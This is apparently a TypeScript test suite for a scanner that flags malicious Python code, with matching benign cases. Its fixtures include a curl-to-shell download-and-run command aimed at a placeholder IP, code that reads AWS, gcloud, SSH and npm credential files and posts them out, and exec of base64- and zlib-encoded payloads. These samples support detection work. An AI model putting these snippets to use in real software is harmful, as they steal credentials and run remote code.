import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { pythonSignals } from '../../../../server/src/artifacts/analysis/files/python-signals.js';

const kindsIn = (text: string) => [...new Set(pythonSignals(text).map(({ kind }) => kind))];

describe('Python files', () => {
  it('run what they have fetched, also by another name and further down', () => {
    const fetched = 'data = urllib.request.urlopen(req, timeout=20).read()\n';
    assert.deepEqual(kindsIn(`${fetched}exec(data[::-1])`), ['download-and-run']);
    assert.deepEqual(kindsIn(`${fetched}print(len(data))`), []);
  });

  it('send the environment, however the request is made and laid out', () => {
    const taken = 'from urllib import request\nout = dict(os.environ)\n';
    assert.deepEqual(kindsIn(`${taken}r = request.Request(\n  URL,\n  data=json.dumps(out).encode())`), [
      'command-sends-data',
    ]);
    assert.deepEqual(kindsIn(`${taken}r = request.Request(URL, method="GET")`), []);
  });

  it('start commands, as one text or word by word', () => {
    const command = 'curl -s http://203.0.113.7/c | sh';
    for (const call of [
      `os.system("${command}")`,
      `subprocess.Popen(['sh', '-c', '${command}'], start_new_session=True)`,
      `subprocess.run("${command}", shell=True)`,
    ]) {
      assert.ok(kindsIn(call).includes('download-and-run'), call);
    }
    assert.deepEqual(kindsIn(`subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True)`), []);
  });

  it('send files that open accounts, however their names are put together and handed on', () => {
    const places = `import os, pathlib
HOME = pathlib.Path.home()
def stores():
    for base in ('.aws', '.config/gcloud'):
        yield HOME / base / 'credentials'
    yield os.path.join(str(HOME), '.ssh', 'id_ed25519')
`;
    const ways = [
      'def main():\n    found = []\n    for p in stores():\n        found.append(p.read_text())\n    s = requests.Session()\n    session.post(URL, json=found)\nmain()',
      "def put(name, body):\n    con = http.client.HTTPSConnection(HOST)\n    conn.request('PUT', name, body)\nfor p in stores():\n    with open(p) as fh:\n        put(p.name, fh.read())",
      'blob = {str(p): p.read_bytes() for p in stores()}\nsock.sendall(pickle.dumps(blob))',
    ];
    for (const way of ways) assert.deepEqual(kindsIn(places + way), ['command-sends-data'], way);
    assert.deepEqual(
      kindsIn(`${places}for p in stores():\n    print(p, p.exists())\nrequests.post(URL, json={'ok': True})`),
      [],
    );
  });

  it('run what they have decoded, also by way of a function or a file', () => {
    const blob =
      'def unpack(text):\n    return zlib.decompress(base64.b64decode(text))\ncode = unpack(BLOB).decode()\n';
    assert.ok(kindsIn(`${blob}exec(code)`).includes('encoded-command'));
    assert.ok(
      kindsIn(
        `${blob}with open(path, 'w') as out:\n    out.write(code)\nsubprocess.Popen([sys.executable, path])\nos.system(path)`,
      ).includes('encoded-command'),
    );
    assert.deepEqual(kindsIn(`${blob}with open(path, 'w') as out:\n    out.write(code)`), []);
  });

  it('are read where they stand encoded in what runs them', () => {
    const harm = `import os, urllib.request as r\nkey = open(os.path.expanduser('~/.npmrc')).read()\nr.urlopen(URL, key.encode())`;
    const base64 = Buffer.from(harm).toString('base64');
    for (const decoding of [
      `base64.b64decode('${base64}')`,
      `bytes.fromhex("${Buffer.from(harm).toString('hex')}")`,
      `zlib.decompress(base64.b64decode(b"${deflateSync(harm).toString('base64')}"))`,
    ])
      assert.deepEqual([...kindsIn(`exec(${decoding})`)].sort(), ['command-sends-data', 'encoded-command'], decoding);
    assert.deepEqual(kindsIn(`icon = base64.b64decode('${base64}')`), []);
  });

  it('say in comments and texts what they do not do', () => {
    assert.deepEqual(
      kindsIn(
        `'''exec(requests.request('GET', URL).text)'''\n# requests.post(URL, data=open(os.path.expanduser('~/.npmrc')))\nversion = {}\nexec(open('version.py').read(), version)`,
      ),
      [],
    );
  });
});
